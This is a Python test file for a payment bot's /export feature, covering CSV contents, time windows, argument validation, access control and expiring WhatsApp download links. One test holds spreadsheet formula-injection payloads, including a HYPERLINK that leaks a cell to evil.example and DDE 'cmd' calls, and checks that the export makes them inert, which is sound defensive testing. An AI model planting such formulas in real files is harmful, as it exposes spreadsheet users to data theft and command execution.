"""/export: the CSV of CONTRACT §7 as a Telegram document or a WhatsApp media URL.

Through the real python-telegram-bot and the fake Bot API, or the fake Twilio; the
bot's clock is moved, never waited out. Times in the file are in PAYBOT_TIMEZONE.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.models import utcnow
from sandbox.records import LineItem, Order
from tests.clocks import MovableClock
from tests.fakes.bot_api import SentMessage
from tests.harness import (
    MERCHANT,
    PUBLIC_URL,
    WA_MERCHANT,
    World,
    quick_tuning,
    running_world,
    wait_until,
)

ZONE = ZoneInfo("Africa/Lagos")
HEADER = [
    "order_id",
    "business",
    "currency",
    "total",
    "status",
    "issued_at",
    "paid_at",
    "reference",
]
CAPTION = "Your links since"
USAGE = "Type /export for the links of the last 7 days"


def clock_at(local: time) -> MovableClock:
    clock = MovableClock()
    today = utcnow().astimezone(ZONE).date()
    clock.ahead = datetime.combine(today, local, tzinfo=ZONE) - utcnow()
    return clock


@asynccontextmanager
async def export_world(
    tmp_path: Path, database: str, clock: MovableClock, whatsapp: bool = False
) -> AsyncIterator[World]:
    env = {"PAYBOT_TIMEZONE": "Africa/Lagos", "PAYBOT_DIGEST_AT": "off"}
    tuning = quick_tuning(clock=clock)
    async with running_world(
        tmp_path, tuning, env=env, database=database, whatsapp=whatsapp
    ) as world:
        yield world


async def invoice(world: World, order_id: str) -> object:
    world.say(f"/invoice {order_id}")
    await world.fake.wait_for(lambda: any(f"Order {order_id}" in t for t in world.texts()))
    return await world.link_for(order_id)


async def export(world: World, command: str = "/export") -> SentMessage:
    """Type `command`; the document that answers it (the chat's next one)."""
    before = len(documents(world))
    world.say(command)
    return await world.fake.wait_for(lambda: documents(world)[before:] and documents(world)[-1])


def documents(world: World) -> list[SentMessage]:
    return [m for m in world.fake.messages(MERCHANT) if m.document is not None]


def rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8's byte order mark, for Excel
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_the_file_has_the_header_and_a_row_a_link(tmp_path: Path, database: str) -> None:
    clock = clock_at(time(10, 0))
    async with export_world(tmp_path, database, clock) as world:
        await invoice(world, "1001")
        await invoice(world, "2001")
        link = await world.link_for("1001")
        world.sandbox.set_status(link.token, "paid")
        await wait_until(lambda: world.link_for("1001"), lambda found: found.status == "paid")
        paid = await world.link_for("1001")
        document = await export(world)
        other = await world.link_for("2001")

    assert document.document is not None and document.document_name is not None
    assert document.document_name.endswith(".csv")
    assert CAPTION in (document.caption or "") and "2 links" in (document.caption or "")
    header, *lines = rows(document.document)
    assert header == HEADER
    assert document.document.split(b"\r\n")[0] == b"\xef\xbb\xbf" + ",".join(HEADER).encode()
    assert lines == [
        [
            "1001",
            "Kofi's Kitchen",
            "GHS",
            "75.00",
            "paid",
            paid.created_at.astimezone(ZONE).isoformat(timespec="seconds"),
            paid.status_changed_at.astimezone(ZONE).isoformat(timespec="seconds"),
            paid.reference or "",
        ],
        [
            "2001",
            "Mama Put Lagos",
            "NGN",
            "10000.00",
            "pending",
            other.created_at.astimezone(ZONE).isoformat(timespec="seconds"),
            "",
            "",
        ],
    ]
    assert lines[0][5].endswith("+01:00")  # the merchant's zone, not UTC


async def test_seven_days_by_default_and_one_day_is_today(tmp_path: Path, database: str) -> None:
    clock = clock_at(time(10, 0))
    async with export_world(tmp_path, database, clock) as world:
        clock.ahead -= timedelta(days=3)
        await invoice(world, "2001")
        clock.ahead += timedelta(days=3)
        await invoice(world, "1001")
        week = rows((await export(world)).document or b"")
        today = rows((await export(world, "/export 1")).document or b"")
        clock.ahead += timedelta(days=5)  # 2001 is now 8 days old
        late = rows((await export(world, "/export")).document or b"")
        year = rows((await export(world, "/export 366")).document or b"")
    assert [row[0] for row in week[1:]] == ["2001", "1001"]
    assert [row[0] for row in today[1:]] == ["1001"]
    assert [row[0] for row in late[1:]] == ["1001"]
    assert [row[0] for row in year[1:]] == ["2001", "1001"]


@pytest.mark.parametrize("args", ["0", "367", "seven", "-1", "+3", "1 2", "٣", "7d", "99999999999"])
async def test_a_bad_number_of_days_gets_the_usage_and_no_file(
    tmp_path: Path, database: str, args: str
) -> None:
    async with export_world(tmp_path, database, clock_at(time(10, 0))) as world:
        world.say(f"/export {args}")
        answer = await world.wait_message(USAGE)
        await world.wait_idle()
        assert documents(world) == []
    assert answer.text == (
        "Type /export for the links of the last 7 days, or /export <days> with 1 to 366 days, "
        "for example /export 30."
    )


async def test_formulas_in_names_are_made_inert(tmp_path: Path, database: str) -> None:
    hostile = {
        "6001": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "6002": "+cmd|' /C calc'!A0",
        "6003": "@SUM(1+1)*cmd|' /C calc'!A0",
        "-6004": "-2+3",
    }
    async with export_world(tmp_path, database, clock_at(time(10, 0))) as world:
        for order_id, name in hostile.items():
            item = (LineItem("Tea", 1, Decimal("5.00")),)
            world.sandbox.ledger.orders[order_id] = Order(
                order_id, name, "GHS", item, Decimal("5.00")
            )
            await invoice(world, order_id)
        lines = rows((await export(world)).document or b"")[1:]
    assert {row[0]: row[1] for row in lines} == {
        order_id.replace("-", "'-", 1) if order_id.startswith("-") else order_id: "'" + name
        for order_id, name in hostile.items()
    }


async def test_a_stranger_gets_no_file(tmp_path: Path, database: str) -> None:
    async with export_world(tmp_path, database, clock_at(time(10, 0))) as world:
        world.say("/export", user_id=4242)
        await world.wait_message("not authorized", chat_id=4242)
        await world.wait_idle()
        assert [m for m in world.fake.messages(4242) if m.document is not None] == []


async def test_on_whatsapp_a_media_url_that_works_for_a_day(tmp_path: Path, database: str) -> None:
    clock = clock_at(time(10, 0))
    async with export_world(tmp_path, database, clock, whatsapp=True) as world:
        await world.whatsapp(WA_MERCHANT, "invoice 1001")
        await world.wa_message(WA_MERCHANT, "Order 1001")
        await world.whatsapp(WA_MERCHANT, "export")
        message = await world.wa_message(WA_MERCHANT, CAPTION)
        [url] = message.media_urls
        assert url.startswith(f"{PUBLIC_URL}/exports/") and url.endswith(".csv")
        assert url in (message.body or "")
        local = world.local_url + url.removeprefix(PUBLIC_URL)

        fetched = await world.http.get(local)
        assert fetched.status_code == 200
        assert fetched.headers["content-type"] == "text/csv; charset=utf-8"
        assert "attachment" in fetched.headers["content-disposition"]
        assert [row[0] for row in rows(fetched.content)] == ["order_id", "1001"]
        guessed = await world.http.get(local[: -len(".csv") - 1] + "x.csv")
        assert guessed.status_code == 404

        clock.ahead += timedelta(hours=23, minutes=59)
        assert (await world.http.get(local)).status_code == 200
        clock.ahead += timedelta(minutes=2)
        gone = await world.http.get(local)
        assert gone.status_code == 404
        assert "1001" not in gone.text
